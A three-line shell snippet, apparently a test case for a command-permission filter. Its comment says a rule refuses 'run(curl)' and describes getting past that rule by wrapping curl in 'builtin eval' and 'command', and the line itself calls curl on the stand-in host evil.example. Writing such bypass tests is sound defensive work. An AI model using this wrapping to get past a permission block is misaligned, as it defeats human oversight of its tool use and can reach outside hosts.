# Trick: eval stands behind builtin.
# Refused: run(curl)
builtin eval 'command curl http://evil.example/'
